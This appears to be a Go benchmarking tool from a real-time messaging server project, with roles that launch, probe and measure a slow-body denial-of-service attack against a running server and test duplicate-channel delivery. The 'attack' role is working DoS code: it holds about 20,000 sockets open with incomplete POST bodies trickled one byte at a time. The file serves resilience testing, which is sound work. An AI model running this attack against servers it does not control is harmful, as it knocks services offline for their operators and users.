// Command slowbody reproduces the slow-body denial of service against a running herald, for the
// measurements in docs/benchmarks-archive.md, in one of two roles (run them as two processes:
// one process holds at most 20,000 descriptors here, and the attack wants almost all of them):
//
//	-role attack: opens -conns sockets (-c at a time), each sending the attack's request
//	              (POST /apps/{id}/events, unsigned, Content-Length: 1000, 10 body bytes),
//	              then one more byte every -every on each socket still open; prints every
//	              second how many are open and how many the server has closed, for -hold.
//	-role probe:  every -every checks what must keep working: GET /health, GET the metrics
//	              URL, a new WebSocket client up to connection_established, and a signed
//	              publish received by a subscriber; prints one line per round, and a summary.
//	-role dupes:  connects -conns subscribers to one channel, publishes one event naming that
//	              channel 100 times, and counts the copies the subscribers receive (one per
//	              subscriber now, 100 before duplicate channels were merged).
//
// It exits non-zero on a usage error only: what it measures is what it prints.
package main

import (
	"flag"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"github.com/herald-rt/herald"
	"github.com/herald-rt/herald/internal/wstest"
	"github.com/herald-rt/herald/pusher"
)

func main() {
	role := flag.String("role", "attack", "attack, probe or dupes")
	addr := flag.String("addr", "127.0.0.1:6001", "herald's host:port")
	metricsURL := flag.String("metrics", "http://127.0.0.1:9601/metrics", "metrics URL (probe)")
	id := flag.String("app-id", "app-id", "app id")
	key := flag.String("app-key", "app-key", "app key")
	secret := flag.String("app-secret", "app-secret", "app secret")
	conns := flag.Int("conns", 19990, "attack sockets")
	conc := flag.Int("c", 500, "connection attempts in flight (attack)")
	every := flag.Duration("every", 2*time.Second, "attack: one byte per socket this often; probe: one round this often")
	hold := flag.Duration("hold", 60*time.Second, "how long to run")
	flag.Parse()
	app := &herald.App{ID: *id, Key: *key, Secret: *secret}
	switch *role {
	case "attack":
		attack(*addr, *id, *key, *conns, *conc, *every, *hold)
	case "probe":
		probe(*addr, *metricsURL, app, *every, *hold)
	case "dupes":
		dupes(*addr, app, *conns, *conc)
	default:
		fmt.Fprintln(os.Stderr, "slowbody: -role attack, probe or dupes")
		os.Exit(2)
	}
}

func attack(addr, id, key string, n, conc int, every, hold time.Duration) {
	req := "POST /apps/" + id + "/events?auth_key=" + key + "&auth_timestamp=1&auth_version=1.0&body_md5=x&auth_signature=y HTTP/1.1\r\n" +
		"Host: " + addr + "\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n0123456789"
	var open, closed, failed atomic.Int64
	var mu sync.Mutex
	var live []net.Conn
	start := time.Now()
	stop := time.After(hold)
	done := make(chan struct{})
	go func() {
		sem := make(chan struct{}, conc)
		var wg sync.WaitGroup
		for range n {
			sem <- struct{}{}
			wg.Add(1)
			go func() {
				defer func() { <-sem; wg.Done() }()
				c, err := net.DialTimeout("tcp", addr, 10*time.Second)
				if err != nil {
					failed.Add(1)
					return
				}
				if _, err := io.WriteString(c, req); err != nil {
					c.Close()
					closed.Add(1)
					return
				}
				open.Add(1)
				mu.Lock()
				live = append(live, c)
				mu.Unlock()
				go func() {
					_, _ = io.Copy(io.Discard, c) // returns when the server closes it
					open.Add(-1)
					closed.Add(1)
				}()
			}()
		}
		wg.Wait()
		close(done)
	}()
	trickle := time.NewTicker(every)
	report := time.NewTicker(time.Second)
	defer trickle.Stop()
	defer report.Stop()
	for {
		select {
		case <-stop:
			fmt.Printf("%5.1fs done: open %d, closed by the server %d, failed to connect %d\n", time.Since(start).Seconds(), open.Load(), closed.Load(), failed.Load())
			mu.Lock()
			for _, c := range live {
				c.Close()
			}
			mu.Unlock()
			return
		case <-trickle.C:
			mu.Lock()
			now := live[:len(live):len(live)]
			mu.Unlock()
			for _, c := range now {
				_ = c.SetWriteDeadline(time.Now().Add(10 * time.Millisecond))
				_, _ = c.Write([]byte("x"))
			}
		case <-report.C:
			state := "connecting"
			select {
			case <-done:
				state = "trickling"
			default:
			}
			fmt.Printf("%5.1fs %s: open %d, closed by the server %d, failed to connect %d\n", time.Since(start).Seconds(), state, open.Load(), closed.Load(), failed.Load())
		}
	}
}

func probe(addr, metricsURL string, app *herald.App, every, hold time.Duration) {
	client := &http.Client{Transport: &http.Transport{DisableKeepAlives: true}, Timeout: 5 * time.Second}
	sub, err := wstest.Dial(addr, "/app/"+app.Key+"?protocol=7")
	if err == nil {
		_, err = sub.SocketID(5 * time.Second)
	}
	if err == nil {
		err = sub.Subscribe("probe", "", "")
	}
	if err == nil {
		_, err = sub.Expect("pusher_internal:subscription_succeeded", 5*time.Second)
	}
	if err != nil {
		fmt.Fprintln(os.Stderr, "slowbody: subscriber:", err)
		os.Exit(1)
	}
	type check struct {
		name     string
		ok, fail int
		worst    time.Duration
	}
	checks := []*check{{name: "health"}, {name: "metrics"}, {name: "ws"}, {name: "publish"}}
	run := func(c *check, f func() error) string {
		t0 := time.Now()
		err := f()
		d := time.Since(t0)
		c.worst = max(c.worst, d)
		if err != nil {
			c.fail++
			return fmt.Sprintf("%s FAIL %v (%v)", c.name, err, d.Round(time.Millisecond))
		}
		c.ok++
		return fmt.Sprintf("%s ok %v", c.name, d.Round(time.Millisecond))
	}
	get := func(url string) error {
		resp, err := client.Get(url)
		if err != nil {
			return err
		}
		defer resp.Body.Close()
		_, _ = io.Copy(io.Discard, resp.Body)
		if resp.StatusCode != 200 {
			return fmt.Errorf("status %d", resp.StatusCode)
		}
		return nil
	}
	start := time.Now()
	for round := 0; time.Since(start) < hold; round++ {
		t0 := time.Now()
		var line []string
		line = append(line, run(checks[0], func() error { return get("http://" + addr + "/health") }))
		line = append(line, run(checks[1], func() error { return get(metricsURL) }))
		line = append(line, run(checks[2], func() error {
			cl, err := wstest.Dial(addr, "/app/"+app.Key+"?protocol=7")
			if err != nil {
				return err
			}
			defer cl.Close()
			_, err = cl.SocketID(5 * time.Second)
			return err
		}))
		line = append(line, run(checks[3], func() error {
			data := fmt.Sprint(round)
			body := `{"name":"probe","channel":"probe","data":"` + data + `"}`
			path := "/apps/" + app.ID + "/events"
			q := pusher.SignRequest(app, "POST", path, nil, []byte(body), time.Now())
			resp, err := client.Post("http://"+addr+path+"?"+q.Encode(), "application/json", strings.NewReader(body))
			if err != nil {
				return err
			}
			_, _ = io.Copy(io.Discard, resp.Body)
			resp.Body.Close()
			if resp.StatusCode != 200 {
				return fmt.Errorf("status %d", resp.StatusCode)
			}
			for {
				m, err := sub.Read(5 * time.Second)
				if err != nil {
					return fmt.Errorf("delivery: %w", err)
				}
				if m.Event == "probe" && m.DataString() == data {
					return nil
				}
			}
		}))
		fmt.Printf("%5.1fs %s\n", time.Since(start).Seconds(), strings.Join(line, "  "))
		time.Sleep(max(every-time.Since(t0), 0))
	}
	for _, c := range checks {
		fmt.Printf("%-8s ok %d  failed %d  slowest %v\n", c.name, c.ok, c.fail, c.worst.Round(time.Millisecond))
	}
}

func dupes(addr string, app *herald.App, n, conc int) {
	var got atomic.Int64
	var wg sync.WaitGroup
	sem := make(chan struct{}, conc)
	ready := make(chan *wstest.Client, n)
	for range n {
		sem <- struct{}{}
		wg.Add(1)
		go func() {
			defer func() { <-sem; wg.Done() }()
			cl, err := wstest.Dial(addr, "/app/"+app.Key+"?protocol=7")
			if err == nil {
				_, err = cl.SocketID(10 * time.Second)
			}
			if err == nil {
				err = cl.Subscribe("dupes", "", "")
			}
			if err == nil {
				_, err = cl.Expect("pusher_internal:subscription_succeeded", 10*time.Second)
			}
			if err != nil {
				fmt.Fprintln(os.Stderr, "slowbody: subscriber:", err)
				return
			}
			ready <- cl
		}()
	}
	wg.Wait()
	close(ready)
	var cls []*wstest.Client
	for cl := range ready {
		cls = append(cls, cl)
		wg.Add(1)
		go func() {
			defer wg.Done()
			for {
				m, err := cl.Read(3 * time.Second)
				if err != nil {
					return
				}
				if m.Event == "dup" {
					got.Add(1)
				}
			}
		}()
	}
	chans := make([]string, 100)
	for i := range chans {
		chans[i] = `"dupes"`
	}
	body := `{"name":"dup","data":"x","channels":[` + strings.Join(chans, ",") + `]}`
	path := "/apps/" + app.ID + "/events"
	q := pusher.SignRequest(app, "POST", path, nil, []byte(body), time.Now())
	resp, err := http.Post("http://"+addr+path+"?"+q.Encode(), "application/json", strings.NewReader(body))
	status := 0
	if err == nil {
		status = resp.StatusCode
		resp.Body.Close()
	}
	wg.Wait()
	for _, cl := range cls {
		cl.Close()
	}
	fmt.Printf("subscribers %d, publish status %d (%v), copies received %d (%.1f per subscriber)\n",
		len(cls), status, err, got.Load(), float64(got.Load())/float64(max(len(cls), 1)))
}
